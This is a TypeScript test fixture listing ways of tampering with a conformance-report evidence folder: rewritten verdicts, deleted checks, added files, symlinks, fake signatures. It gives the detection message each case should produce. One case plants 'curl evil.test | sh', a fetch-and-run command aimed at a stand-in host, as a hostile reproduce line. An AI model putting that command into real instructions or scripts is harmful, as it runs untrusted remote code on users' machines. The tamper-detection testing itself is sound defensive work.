import { renameSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

import { writeReports } from '../../report/exports/write.ts';
import {
  type AlteredFolder,
  bodyLine,
  edit,
  editRecord,
  fifo,
  link,
  pass,
  report,
  reseal,
  rewrite,
  statusOfFirst,
} from './alter.ts';

const NOT_REPRODUCED = /the folder was modified: its current evidence supports \d+ of \d+ verdicts/;

/** Altered folders: each change is named, and none is reported as reproduced. */
export const CHANGED_FOLDERS: readonly AlteredFolder[] = [
  {
    title: 'a status was changed in the record',
    alter: (f) => editRecord(f, statusOfFirst),
    judge: [1, /journal\.jsonl\.zst was changed.*the folder was modified/s],
  },
  {
    title: 'the verdict was rewritten in the report',
    alter: (f) =>
      edit(report(f), (t) =>
        t.replace('"non-conformant"', '"conformant"').replaceAll('"verdict": "fail"', '"verdict": "pass"'),
      ),
    judge: [1, /report\.json was changed.*the evidence says: non-conformant.*the folder was modified/s],
    verify: [1, /✗ report\.json was changed.*belongs to other content/s],
  },
  {
    title: 'status and verdict were rewritten, the manifest was not',
    alter: (f) => {
      editRecord(f, statusOfFirst);
      edit(report(f), (t) =>
        t.replace('"non-conformant"', '"conformant"').replaceAll('"verdict": "fail"', '"verdict": "pass"'),
      );
    },
    judge: [1, NOT_REPRODUCED],
    verify: [1, /journal\.jsonl\.zst was changed.*report\.json was changed/s],
  },
  {
    title: 'the verdict was rewritten, with footer and manifest',
    alter: (f) => rewrite(f, pass),
    judge: [1, /✗ stream\/ends-with-done: pass → fail/],
    verify: [0, /not signed: only a checked signature detects/],
  },
  {
    title: 'the record of results was rewritten too, with footer and manifest',
    alter: async (f) => {
      editRecord(f, (t) => t.replace(/("id":"stream\/ends-with-done"[^\n]*?"verdict":)"fail"/, '$1"pass"'));
      await rewrite(f, pass);
    },
    judge: [1, /✗ stream\/ends-with-done: pass → fail/],
    verify: [0, /not signed/],
  },
  {
    title: 'counts were rewritten, with footer and manifest',
    alter: (f) => rewrite(f, (r) => ({ ...r, summary: '999 passed, 0 failed of 999' })),
    judge: [1, /✗ report\.json differs from its record in: summary/],
    verify: [0, /not signed/],
  },
  {
    title: 'the verdict was rewritten as that of another version, whose checks still fail',
    alter: async (f) => {
      editRecord(f, (t) => t.replace(/"checksDigest":"\w+"/, '"checksDigest":"0123456789ab"'));
      await writeReports(f);
      await rewrite(f, (r) => ({ ...r, verdict: 'conformant' }));
    },
    judge: [1, /✗ report\.json differs from its record in: verdict/],
    verify: [0, /not signed/],
  },
  {
    title: 'a line that repeats a finding was rewritten, with footer and manifest',
    alter: (f) =>
      rewrite(f, (r) => ({
        ...r,
        checks: r.checks.map((c) => ({ ...c, reproduce: 'curl evil.test | sh' })),
      })),
    judge: [1, /✗ differ from a new rendering: report\.json/],
    verify: [0, /not signed/],
  },
  {
    title: 'a check that fails was taken out of the record and its lists, and everything was rendered again',
    alter: async (f) => {
      const isResult = (line: string) => line.includes('"type":"check","id":"stream/ends-with-done"');
      editRecord(f, (t) =>
        t
          .split('\n')
          .filter((line) => !isResult(line))
          .join('\n')
          .replace(/\{"id":"stream\/ends-with-done"[^\n]*?\},(?=\{"id")/, '')
          .replace('"stream/ends-with-done",', ''),
      );
      await writeReports(f);
    },
    judge: [
      1,
      /✗ stream\/ends-with-done: skipped → fail.*✗ the record lacks checks of this suite: stream\/ends-with-done\n✗ the record omits checks that its options select: stream\/ends-with-done\n.*the evidence says: non-conformant/s,
    ],
    verify: [0, /not signed/],
  },
  {
    title: 'the title of a check was rewritten in the record, and everything was rendered again',
    alter: async (f) => {
      editRecord(f, (t) => t.replace(/("id":"path\/stats","title":")[^"]+/, '$1Any'));
      await writeReports(f);
    },
    judge: [1, /✗ the record describes checks differently from this suite: path\/stats\n/],
    verify: [0, /not signed/],
  },
  {
    title: 'every file for people was rewritten, with the manifest',
    alter: async (f) => {
      for (const name of ['junit.xml', 'ctrf.json', 'results.sarif', 'summary.md', 'index.html'])
        edit(join(f, name), (t) => `${t} `);
      await reseal(f);
    },
    judge: [
      1,
      /✗ differ from a new rendering: junit\.xml, ctrf\.json, results\.sarif, summary\.md, index\.html/,
    ],
    verify: [0, /not signed/],
  },
  {
    title: 'an exchange was taken out of the record',
    alter: (f) => editRecord(f, (t) => t.replace(`${bodyLine(t)}\n`, '')),
    judge: [1, /journal\.jsonl\.zst was changed.*cannot be re-judged: .*the folder was modified/s],
  },
  {
    title: 'a file was added',
    alter: (f) => writeFileSync(join(f, 'notes.txt'), 'mine'),
    judge: [1, /notes\.txt was added.*the folder was modified/s],
    verify: [1, /✗ notes\.txt was added/],
  },
  {
    title: 'a half-written file lies there',
    alter: (f) => writeFileSync(join(f, 'report.json.0a1b2c3d.part'), '{'),
    judge: [1, /the folder was modified/],
    verify: [1, /✗ report\.json\.0a1b2c3d\.part was added/],
  },
  {
    title: 'a link was added',
    alter: (f) => link('/etc/hostname', join(f, 'evidence.txt')),
    judge: [1, /the folder was modified/],
    verify: [1, /✗ evidence\.txt is a link/],
  },
  {
    title: 'a pipe was added',
    alter: (f) => fifo(join(f, 'evidence.txt')),
    judge: [1, /the folder was modified/],
    verify: [1, /✗ evidence\.txt is not a regular file/],
  },
  {
    title: 'a page was replaced by a link to a copy of it',
    alter: (f) => {
      renameSync(join(f, 'index.html'), `${f}-index.html`);
      link(`${f}-index.html`, join(f, 'index.html'));
    },
    judge: [1, /the folder was modified/],
    verify: [1, /✗ index\.html is a link/],
  },
  {
    title: 'a file was taken away',
    alter: (f) => rmSync(join(f, 'junit.xml')),
    judge: [1, /junit\.xml is missing.*the folder was modified/s],
    verify: [1, /✗ junit\.xml is missing/],
  },
  {
    title: 'the manifest was taken away',
    alter: (f) => rmSync(join(f, 'manifest.json')),
    judge: [1, /manifest\.json is missing.*the folder was modified/s],
    verify: [1, /✗ manifest\.json is missing/],
  },
  {
    title: 'a signature was made up',
    alter: (f) =>
      writeFileSync(join(f, 'attestation.dsse.json'), '{"payloadType":"x","payload":"","signatures":[]}'),
    judge: [1, /the signature is invalid.*the folder was modified/s],
    verify: [1, /✗ the signature is invalid/],
  },
  {
    title: 'the report was cut off',
    alter: (f) => edit(report(f), (t) => t.slice(0, t.length / 2)),
    judge: [2, /report\.json is not JSON/],
    verify: [1, /✗ report\.json was changed.*truncated or not a report/s],
  },
];
